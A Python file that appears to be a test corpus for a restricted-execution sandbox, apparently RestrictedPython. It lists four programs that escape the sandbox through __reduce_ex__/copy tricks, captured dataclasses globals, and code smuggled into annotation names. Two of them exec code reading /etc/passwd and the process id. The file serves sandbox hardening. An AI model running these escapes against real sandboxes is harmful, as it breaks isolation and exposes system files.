"""Programs that escaped restricted mode through a class of the program's making: each, were
its route open, writes a module's attributes or ends with the real builtins' work (a pid, a
file's text).

``type`` (``typing.get_origin(typing.Type[int])``) made a class with a ``__reduce_ex__``, which
``copy`` calls and whose state it writes onto any object: ``dataclasses``' ``_create_fn``
then received the globals of a module, whose ``__builtins__`` are the real ones. Or a base's
``__init_subclass__`` rewrote a class's annotations with RestrictedPython's ``setattr`` after
``make_dataclass``'s stand-in had checked the names.
"""

from __future__ import annotations

PROGRAMS: dict[str, str] = {
    "deepcopy_reduce_module_write": """
import typing, dataclasses, json
T = typing.get_origin(typing.Type[int])
def pick():
    return json
def red(self, proto):
    return (pick, (), ({'marker': 'set by deepcopy'}, {'marker2': 'slot'}))
E = T('E', (), {'__reduce_ex__': red})
D = dataclasses.make_dataclass('D', ['x'])
dataclasses.asdict(D(E()))
[json.marker, json.marker2]
""",
    "deepcopy_create_fn_escape": """
import typing, dataclasses, json
T = typing.get_origin(typing.Type[int])
box = {}
def spy(name, args, body, **kw):
    box['g'] = kw.get('globals')
    raise LookupError('captured')
def pick():
    return dataclasses
def red(self, proto):
    return (pick, (), ({'_create_fn': spy}, None))
E = T('E', (), {'__reduce_ex__': red})
D = dataclasses.make_dataclass('D', ['x'])
dataclasses.asdict(D(E()))
C = T('C', (), {'__module__': 'json', '__annotations__': {'x': int}})
try:
    dataclasses.dataclass(C)
except LookupError:
    pass
real = dict.get(box.get('g'), '__builtins__')
out = {}
dict.get(real, 'exec')("import os\\nout['pid'] = os.getpid()\\n"
    "out['passwd'] = open('/etc/passwd').read()[:40]", {'out': out, '__builtins__': real})
out
""",
    "userdict_copy_module_write": """
import collections, typing, json
T = typing.get_origin(typing.Type[int])
def pick():
    return json
def red(self, proto):
    return (pick, (), ({'marker': 'written by copy.copy'}, None))
U = T('U', (collections.UserDict,), {'__reduce_ex__': red, '__copy__': None})
try:
    U().copy()
except Exception as e:
    result([repr(e), getattr(json, 'marker', None)])
""",
    "init_subclass_annotations_escape": """
import typing, dataclasses
T = typing.get_origin(typing.Type[int])
evil = "a,self.a.append(__import__('os').getpid()),self.a.append(open('/etc/passwd').read()[:30])"
def hook(cls, **kw):
    setattr(cls, '__annotations__', {evil: int})
B = T('B', (), {'_guarded_writes': 1, '__init_subclass__': hook, 'a': []})
D = dataclasses.make_dataclass('D', ['x'], bases=(B,), init=False, repr=False)
x = D()
x == x
x.a
""",
}
